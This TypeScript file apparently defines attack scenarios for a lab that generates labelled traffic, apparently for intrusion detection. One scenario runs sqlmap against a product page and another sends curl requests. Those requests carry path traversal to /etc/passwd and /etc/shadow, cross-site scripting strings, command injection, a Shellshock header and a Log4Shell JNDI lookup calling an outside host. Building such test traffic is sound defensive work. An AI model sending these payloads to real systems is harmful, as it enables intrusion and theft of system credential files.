import type { Scenario } from '../scenario.js';

const injection: Scenario = {
  name: 'sql-injection',
  summary: 'sqlmap finds and uses the hole of the product page',
  kind: 'attack',
  services: ['web'],
  run: async (context) => {
    const [source = ''] = context.attackers();
    context.useSource('attacker', source);
    const url = `http://${context.victim.ip4}/app/product?id=7`;
    const level = context.at({
      slow: ['--delay', '1', '--technique', 'U'],
      normal: ['--technique', 'BEU'],
      fast: ['--threads', '4'],
    });
    const quiet = ['--batch', '--flush-session', '--output-dir', `${context.lab.dir}/sqlmap`, '--disable-coloring'];
    const facts = { label: 'sql_injection', technique: 'T1190', sources: [source], targets: [context.victim.ip4] };
    await context.attack(facts, 'attacker', 'sqlmap', ['-u', url, ...quiet, ...level, '--tables', '--dbms', 'sqlite']);
  },
};

/** Well-known hostile requests, one each. */
const REQUESTS: readonly (readonly string[])[] = [
  ['--path-as-is', '/../../../../etc/passwd'],
  ['/index.html?file=..%2f..%2f..%2fetc%2fshadow'],
  ['/app/search?q=%3Cscript%3Ealert(1)%3C/script%3E'],
  ['/app/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E'],
  ['/cgi-bin/test.cgi?a=;cat%20/etc/passwd'],
  ['-H', 'User-Agent: () { :; }; /bin/bash -c id', '/cgi-bin/status'],
  ['-H', 'X-Api-Version: ${jndi:ldap://198.51.100.7/a}', '/'],
  ['/wp-login.php'],
  ['/.git/config'],
  ['/phpmyadmin/index.php'],
];

const requests: Scenario = {
  name: 'web-attacks',
  summary: 'curl: traversal, cross-site scripting, command injection, known holes',
  kind: 'attack',
  services: ['web'],
  run: async (context) => {
    const [source = ''] = context.attackers();
    for (const request of REQUESTS) {
      const flags = request.slice(0, -1);
      const url = `http://${context.victim.ip4}${request.at(-1) ?? '/'}`;
      const args = ['-s', '-o', '/dev/null', '-m', '5', '--interface', source, ...flags, url];
      const facts = { label: 'web_attack', technique: 'T1190', sources: [source], targets: [context.victim.ip4] };
      await context.attack(facts, 'attacker', 'curl', args);
    }
  },
};

export const webAttacks: readonly Scenario[] = [injection, requests];
